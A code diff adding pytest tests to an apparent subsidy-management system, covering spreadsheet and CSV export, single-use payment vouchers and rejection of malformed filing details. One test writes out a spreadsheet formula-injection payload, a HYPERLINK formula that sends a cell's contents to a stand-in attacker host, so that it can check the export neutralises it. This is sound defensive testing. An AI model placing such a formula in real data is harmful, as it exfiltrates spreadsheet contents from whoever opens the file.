@@ -10,6 +10,9 @@ import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
+from sqlalchemy import update
+
+from services.subsidy import projections as rm
 from services.subsidy import rules
 from shared.errors import Forbidden, InvalidInput, InvalidState, NotFound
 from tests.support.subsidy_inprocess import PAYEE, Four, invoices_for
@@ -204,3 +207,56 @@ def test_the_roster_and_city_totals_export_with_their_position(four):
     exported = four.finance.export_subsidy_list({"campaign_code": "2018", "list": "city_totals"})
     rows = list(load_workbook(io.BytesIO(base64.b64decode(exported["content_base64"]))).active.iter_rows(values_only=True))
     assert f"subsidy position {exported['position']}" in rows[0][0] and rows[2][:2] == ("130100", 1)
+
+
+# ------------------------------------------------------------------ what an outsider's attack found
+def test_a_name_that_is_a_formula_is_exported_as_text(four):
+    app_id = four.awarded(1)[0]
+    # A hostile name, as an enterprise could register it, put straight into the case's row here.
+    with four.subsidy_store.transaction() as session:
+        session.execute(update(rm.cases).values(enterprise_name='=HYPERLINK("http://evil.example/?"&A3,"点击查看")'))
+    exported = four.finance.export_subsidy_list({"campaign_code": "2018", "list": "payments"})
+    cell = load_workbook(io.BytesIO(base64.b64decode(exported["content_base64"]))).active["B3"]
+    assert cell.value.startswith("=HYPERLINK") and cell.data_type == "s"  # text, not a formula
+    as_csv = four.finance.export_subsidy_list({"campaign_code": "2018", "list": "payments", "format": "csv"})
+    assert "'=HYPERLINK" in base64.b64decode(as_csv["content_base64"]).decode("utf-8-sig")
+    with pytest.raises(NotFound):
+        four.finance.export_subsidy_list({"campaign_code": "2099", "list": "payments"})
+
+
+def filed(four: Four, app_id: str, serial: int) -> None:
+    four.enterprise(serial).give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["c2018"])})
+    four.app.login("changan", "changan-Own-pass-2018").on(four.subsidy).stamp(app_id, {})
+    four.app.login("sjz-city", "sjz-city-Own-pass-2018").on(four.subsidy).stamp(app_id, {})
+    four.province_subsidy.file_case(app_id, {})
+    four.province_subsidy.calculate(app_id)
+    four.finance.approve(app_id, {"amount": "18000.00"})
+
+
+def test_one_bank_voucher_pays_one_case(four):
+    first, second = four.awarded(2)
+    filed(four, first, 1)
+    filed(four, second, 2)
+    four.finance.record_payment(first, {"paid_on": "2019-03-01", "amount": "18000.00", "voucher_reference": "GK-1"})
+    with pytest.raises(InvalidState) as reused:
+        four.finance.record_payment(second, {"paid_on": "2019-03-01", "amount": "18000.00", "voucher_reference": "GK-1"})
+    assert reused.value.details["paid_for"] == first
+
+
+def test_duplicate_invoices_blank_names_loose_amounts_and_dates_are_refused(four):
+    app_id = four.awarded(1)[0]
+    ent = four.enterprise(1)
+    before = four.subsidy_store.max_position()
+    twice = invoices_for(["c2018"]) + invoices_for(["c2018"])
+    for details in ({"payee": PAYEE, "invoices": twice},
+                    {"payee": PAYEE | {"name": "   "}, "invoices": invoices_for(["c2018"])},
+                    {"payee": PAYEE, "invoices": [i | {"amount": "1.8e4"} for i in invoices_for(["c2018"])]},
+                    {"payee": PAYEE, "invoices": [i | {"amount": "１７０００"} for i in invoices_for(["c2018"])]},
+                    {"payee": PAYEE, "invoices": [i | {"date": "20180510"} for i in invoices_for(["c2018"])]}):
+        with pytest.raises(InvalidInput):
+            ent.give_filing_details(app_id, details)
+    with pytest.raises(InvalidInput):
+        ent.give_filing_details(app_id, {"payee": PAYEE, "invoices": invoices_for(["c2018"])}, idempotency_key="k\x01")
+    with pytest.raises(InvalidInput):
+        four.finance.list_subsidy_cases({"status": "nope"})
+    assert four.subsidy_store.max_position() == before
